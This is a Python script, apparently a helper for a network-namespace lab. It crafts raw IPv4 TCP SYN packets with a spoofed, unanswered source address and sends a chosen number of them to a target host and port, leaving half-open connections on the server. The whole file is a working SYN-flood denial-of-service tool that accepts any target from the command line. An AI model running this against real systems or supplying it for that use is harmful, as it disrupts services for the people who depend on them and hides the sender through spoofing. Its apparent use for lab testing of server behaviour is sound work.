"""Run inside the client namespace: send bare SYNs from an address nobody answers for.

usage: rawsyn.py SRC_IP DST_IP DPORT COUNT
The server's SYN-ACKs go to SRC_IP, which no host has (no ARP answer): they are dropped, and each SYN
leaves a half-open connection on the server. Raw IPv4 with IP_HDRINCL; checksums computed here.
"""

from __future__ import annotations

import socket
import struct
import sys


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(
    src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int, payload: bytes = b""
) -> bytes:
    """An IPv4 TCP segment with its checksums."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
    tcp = tcp[:16] + struct.pack("!H", csum(s + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0x4000, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    """A SYN whose initial sequence number is 1000 + sport."""
    return segment(src, dst, sport, dport, 1000 + sport, 0, 0x02)


def main() -> None:
    src, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        for i in range(count):
            s.sendto(syn(src, dst, 20000 + i, dport), (dst, 0))
    print(count, flush=True)


if __name__ == "__main__":
    main()
